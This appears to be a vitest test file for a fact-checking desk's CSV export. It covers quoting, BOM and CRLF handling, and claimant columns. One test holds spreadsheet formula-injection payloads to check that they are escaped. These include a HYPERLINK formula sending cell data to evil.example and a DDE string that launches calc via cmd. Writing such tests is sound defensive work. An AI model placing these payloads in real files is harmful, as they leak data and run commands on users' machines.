import { describe, expect, it } from 'vitest';
import { BOM, claimRows, CSV_COLUMNS, neutralise, renderCsv, toCsv } from './csv';
import { fixtureClaim, fixtureModel, parseCsv } from './testing';

describe('renderCsv', () => {
  it('writes one row per claim under the header, UTF-8 with a BOM and CRLF line ends, that parses back to the table', () => {
    const tricky = fixtureClaim({
      id: 'claim00002',
      text: 'He said "no", then left,\r\nfor good',
      quote: { exact: 'Line one\nline two, «quoted»', start: 34, end: 60, prefix: '', suffix: '' },
      tags: ['a', 'b, c'],
      dueDate: '2026-12-01',
      score: null,
      verdict: null,
      assignee: null,
    });
    const model = fixtureModel([fixtureClaim(), tricky]);
    const csv = renderCsv(model);
    expect(csv.startsWith(BOM)).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(csv.slice(BOM.length));
    expect(rows).toEqual(claimRows(model));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows[1]).toEqual([
      'claim00001',
      'Budget speech',
      'Unemployment fell to 4.1% in May',
      'Unemployment fell to 4.1% in May.',
      'Ready',
      'High',
      'Sam',
      'economy',
      '',
      '0.90',
      'Mostly false',
      'The official rate was 4.3%.',
      '1',
      '2026-11-25T10:00:00.000Z',
      '',
      '',
      '2026-11-20', // no claim date of its own: the article's
      '',
    ]);
    expect(rows[2]!.slice(2, 4)).toEqual(['He said "no", then left,\r\nfor good', 'Line one\nline two, «quoted»']);
    expect(rows[2]![7]).toBe('a; b, c');
    expect(csv).toContain('"He said ""no"", then left,\r\nfor good"');
  });

  it('neutralises cells a spreadsheet would run as a formula', () => {
    const payloads = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'];
    const claims = payloads.map((text, i) =>
      fixtureClaim({ id: `claim0000${i}`, text, quote: { exact: 'x', start: i, end: i + 1, prefix: '', suffix: '' }, assignee: '=cmd', tags: ['@tag'] }),
    );
    const rows = parseCsv(renderCsv(fixtureModel(claims)).slice(BOM.length));
    expect(rows.slice(1).map((r) => r[2])).toEqual(payloads.map((p) => `'${p}`));
    for (const row of rows.slice(1)) {
      expect(row[6]).toBe("'=cmd");
      expect(row[7]).toBe("'@tag");
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('leaves ordinary cells alone', () => {
    expect(neutralise('4.1% fell')).toBe('4.1% fell');
    expect(neutralise('a=b')).toBe('a=b');
    expect(toCsv([['a', 'b,c', '']])).toBe('a,"b,c",\r\n');
  });

  it('ends each row with who made the claim, their role, when, and where the fact-check is published', () => {
    const claim = fixtureClaim({ claimant: { name: 'Jo Marsh', role: 'finance minister' }, claimDate: '2026-11-18', publishedUrl: 'https://desk.example/fc/1' });
    const rows = parseCsv(renderCsv(fixtureModel([claim])).slice(BOM.length));
    expect(rows[0]!.slice(-4)).toEqual(['claimant', 'claimant role', 'claim date', 'publication address']);
    expect(rows[1]!.slice(-4)).toEqual(['Jo Marsh', 'finance minister', '2026-11-18', 'https://desk.example/fc/1']);
  });
});
